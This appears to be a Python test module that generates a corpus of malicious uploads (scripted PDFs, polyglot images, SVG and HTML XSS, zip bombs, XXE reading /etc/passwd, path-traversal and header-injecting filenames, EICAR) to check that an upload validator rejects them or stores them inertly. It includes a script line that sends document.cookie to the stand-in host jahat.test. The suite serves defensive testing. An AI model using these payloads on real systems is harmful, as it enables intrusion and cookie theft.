"""Corpus of hostile evidence: what is refused, and what may be kept because nothing of it can run.

Each is made from the small valid files of tests.berkas_contoh. `hasil`: TOLAK, or MATI: stored as it came, handed out
only as an attachment that no browser interprets.
"""

import struct
import zlib
from collections.abc import Iterator
from typing import NamedTuple

import pikepdf

from tests.berkas_contoh import EICAR, arsip, docx, gambar, pdf, xlsx

TOLAK, MATI = "ditolak", "disimpan mati"
MAKRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
SKRIP = b"<script>fetch('https://jahat.test/'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HTML = b"<!DOCTYPE html><html><body onload=alert(1)>"
GIFAR = b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"


class Jahat(NamedTuple):
    """sebut: for the test's name; nama: as the browser sends it."""

    sebut: str
    nama: str
    isi: bytes
    hasil: str


def semua() -> Iterator[Jahat]:
    for pembuat in (_pdf, _gambar, _office, _nama, _umum):
        yield from pembuat()


def _tindakan(**isi):
    def ubah(dokumen):
        dokumen.Root.OpenAction = pikepdf.Dictionary(**isi)

    return ubah


def _lampiran(dokumen):
    dokumen.attachments["setup.exe"] = b"MZ" + b"\0" * 64


def _formulir_xfa(dokumen):
    isi = dokumen.make_stream(b"<xdp:xdp><event><script>app.alert(1)</script></event></xdp:xdp>")
    dokumen.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=isi)


def _bersarang(dokumen):
    """An action inside an action inside an action."""
    dalam = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    for _ in range(40):
        dalam = pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=dokumen.make_indirect(dalam))
    dokumen.Root.OpenAction = dalam


def _pdf() -> Iterator[Jahat]:
    nama = pikepdf.Name
    yield Jahat("skrip pembuka", "a.pdf", pdf(_tindakan(S=nama.JavaScript, JS="app.alert(1)")), TOLAK)
    yield Jahat(
        "skrip dalam aliran", "a.pdf", pdf(_tindakan(S=nama.JavaScript, JS=b"x"), compress_streams=True), TOLAK
    )
    yield Jahat("skrip tersembunyi", "a.pdf", pdf(_bersarang), TOLAK)
    yield Jahat("menjalankan program", "a.pdf", pdf(_tindakan(S=nama.Launch, F="cmd.exe")), TOLAK)
    yield Jahat("aliran objek", "a.pdf", pdf(_bersarang, object_stream_mode=pikepdf.ObjectStreamMode.generate), TOLAK)
    yield Jahat("terkunci", "a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="")), TOLAK)
    yield Jahat("berkata sandi", "a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), TOLAK)
    yield Jahat("pdf sekaligus html", "a.pdf", pdf().replace(b"\n", b"\n%" + SKRIP + b"\n", 1), TOLAK)
    yield Jahat("pdf sekaligus zip", "a.pdf", pdf() + arsip({"a.exe": b"MZ"}), TOLAK)
    yield Jahat("pdf tidak di awal", "a.pdf", b"MZ" + pdf(), TOLAK)
    yield Jahat("pdf terpotong", "a.pdf", pdf()[:120], TOLAK)
    yield Jahat("pdf hanya kepala", "a.pdf", b"%PDF-1.7\n", TOLAK)
    yield Jahat("pdf berdaur", "a.pdf", pdf().replace(b"/Kids", b"/Kidx"), TOLAK)
    yield Jahat("tautan pdf", "a.pdf", pdf(_tindakan(S=nama.URI, URI="https://jahat.test/")), MATI)
    yield Jahat("lampiran exe", "a.pdf", pdf(_lampiran), MATI)
    yield Jahat("formulir xfa", "a.pdf", pdf(_formulir_xfa), MATI)
    yield Jahat("html di ekor pdf", "a.pdf", pdf(halaman=40) + HTML, MATI)


def potong_png(jenis: bytes, isi: bytes) -> bytes:
    return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))


def png_dengan(jenis: bytes, isi: bytes) -> bytes:
    """A PNG with a further chunk behind its head."""
    utuh = gambar("PNG")
    return utuh[:33] + potong_png(jenis, isi) + utuh[33:]


def _jpeg_dengan(isi: bytes) -> bytes:
    """A JPEG with a comment."""
    utuh = gambar("JPEG")
    return utuh[:2] + b"\xff\xfe" + struct.pack(">H", len(isi) + 2) + isi + utuh[2:]


def _png_mengaku(lebar: int, tinggi: int) -> bytes:
    kepala = struct.pack(">IIBBBBB", lebar, tinggi, 8, 6, 0, 0, 0)
    isi = potong_png(b"IHDR", kepala) + potong_png(b"IDAT", zlib.compress(b"\0" * 64)) + potong_png(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + isi


def _gambar() -> Iterator[Jahat]:
    bom_teks = b"Comment\0\0" + zlib.compress(b"a" * 64 * 1024 * 1024, 9)
    yield Jahat("svg sebagai png", "a.png", SVG, TOLAK)
    yield Jahat("svg", "a.svg", SVG, TOLAK)
    yield Jahat("gif berskrip", "a.gif", GIFAR, TOLAK)
    yield Jahat("gif berskrip sebagai png", "a.png", GIFAR, TOLAK)
    yield Jahat("html sebagai jpg", "a.jpg", HTML, TOLAK)
    yield Jahat("jpg sebagai png", "a.png", gambar("JPEG"), TOLAK)
    yield Jahat("png terpotong", "a.png", gambar("PNG")[:50], TOLAK)
    yield Jahat("jpg terpotong", "a.jpg", gambar("JPEG")[:300], TOLAK)
    yield Jahat("gambar raksasa", "a.png", gambar("PNG", 8_000, 7_000), TOLAK)
    yield Jahat("gambar mengaku raksasa", "a.png", _png_mengaku(2**31 - 1, 2**31 - 1), TOLAK)
    yield Jahat("gambar mengaku lebih luas", "a.png", _png_mengaku(6_000, 6_000), TOLAK)
    yield Jahat("bom teks png", "a.png", png_dengan(b"zTXt", bom_teks), TOLAK)
    yield Jahat("png sekaligus zip", "a.png", gambar("PNG") + arsip({"a.html": HTML}), TOLAK)
    yield Jahat("jpg sekaligus zip", "a.jpg", gambar("JPEG") + arsip({"a.html": HTML}), TOLAK)
    yield Jahat("jpg sekaligus pdf", "a.pdf", gambar("JPEG") + pdf(), TOLAK)
    yield Jahat("skrip di teks png", "a.png", png_dengan(b"tEXt", b"Comment\0" + SKRIP), MATI)
    yield Jahat("skrip di komentar jpg", "a.jpg", _jpeg_dengan(SKRIP), MATI)
    yield Jahat("html di ekor jpg", "a.jpg", gambar("JPEG") + HTML, MATI)


def _office() -> Iterator[Jahat]:
    zip_bom = arsip({f"{n}.zip": arsip({"0": b"\0" * 5_000_000}) for n in range(16)})
    xxe = b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
    luar = b"<Relationships><Relationship TargetMode='External' Target='file://jahat.test/x'/></Relationships>"
    yield Jahat("makro docx", "a.docx", docx(jenis=MAKRO), TOLAK)
    yield Jahat("vba di docx", "a.docx", docx(word__vbaProject_bin=b"x"), TOLAK)
    yield Jahat("xlsm", "a.xlsm", xlsx(), TOLAK)
    yield Jahat("jalur naik", "a.docx", docx(**{"..__..__etc__passwd": b"x"}), TOLAK)
    yield Jahat("jalur mutlak", "a.docx", docx(__etc__passwd=b"x"), TOLAK)
    yield Jahat("jalur windows", "a.docx", docx(**{"C:\\autoexec.bat": b"x"}), TOLAK)
    yield Jahat("bom zip", "a.docx", docx(word__bom=b"\0" * (200 * 1024 * 1024 + 1)), TOLAK)
    yield Jahat("sejuta bagian", "a.docx", docx(**{f"b{n}": b"" for n in range(5_001)}), TOLAK)
    yield Jahat("ekor skrip", "a.docx", docx() + SKRIP, TOLAK)
    yield Jahat("exe di depan", "a.docx", b"MZ" + docx(), TOLAK)
    yield Jahat("zip biasa", "a.xlsx", arsip({"a.txt": b"x"}), TOLAK)
    yield Jahat("doc lama", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, TOLAK)
    yield Jahat("xxe di daftar jenis", "a.docx", arsip({"[Content_Types].xml": xxe}), TOLAK)
    yield Jahat("docx sebagai xlsx", "a.xlsx", docx(), TOLAK)
    yield Jahat("docx terpotong", "a.docx", docx()[:-30], TOLAK)
    yield Jahat("xxe di isi", "a.docx", docx(**{"word__comments.xml": xxe}), MATI)
    yield Jahat("tautan keluar", "a.docx", docx(**{"word___rels__document.xml.rels": luar}), MATI)
    yield Jahat("zip bertingkat", "a.docx", docx(**{"word__embeddings__a.zip": zip_bom}), MATI)


def _nama() -> Iterator[Jahat]:
    """The name is never a path and never decides how a file is handed out."""
    yield Jahat("nama naik direktori", "../../../etc/cron.d/a.pdf", pdf(), MATI)
    yield Jahat("nama windows", "..\\..\\windows\\a.pdf", pdf(), MATI)
    yield Jahat("nama berbaris baru", "a\r\nSet-Cookie: x=1.pdf", pdf(), MATI)
    yield Jahat("nama terbalik", "gambar\u202efdp.exe", b"MZ", TOLAK)
    yield Jahat("nama html", "<img src=x onerror=alert(1)>.pdf", pdf(), MATI)
    yield Jahat("nama petik", 'a".html; filename="b.pdf', pdf(), MATI)
    yield Jahat("akhiran ganda", "a.pdf.exe", pdf(), TOLAK)
    yield Jahat("akhiran ganda terbalik", "a.exe.pdf", pdf(), MATI)
    yield Jahat("nama panjang", "a" * 400 + ".pdf", pdf(), MATI)
    yield Jahat("htaccess", ".htaccess", b"AddType text/html .pdf", TOLAK)
    yield Jahat("tanpa akhiran", "laporan", pdf(), TOLAK)


def _umum() -> Iterator[Jahat]:
    for akhiran in ("pdf", "png", "jpg", "docx", "xlsx"):
        yield Jahat(f"kosong {akhiran}", f"a.{akhiran}", b"", TOLAK)
        yield Jahat(f"eicar {akhiran}", f"a.{akhiran}", EICAR, TOLAK)
        yield Jahat(f"acak {akhiran}", f"a.{akhiran}", bytes(range(256)) * 20, TOLAK)
    yield Jahat("eicar di pdf", "a.pdf", pdf() + EICAR, TOLAK)
    yield Jahat("eicar di docx", "a.docx", docx(word__a=EICAR), TOLAK)
    yield Jahat("sebelas megabita", "a.pdf", pdf() + b"\n" * 11 * 1024 * 1024, TOLAK)
    for akhiran in ("html", "htm", "js", "exe", "php", "xml", "xhtml", "mht", "zip", "lnk", "hta"):
        yield Jahat(f"jenis {akhiran}", f"a.{akhiran}", HTML, TOLAK)
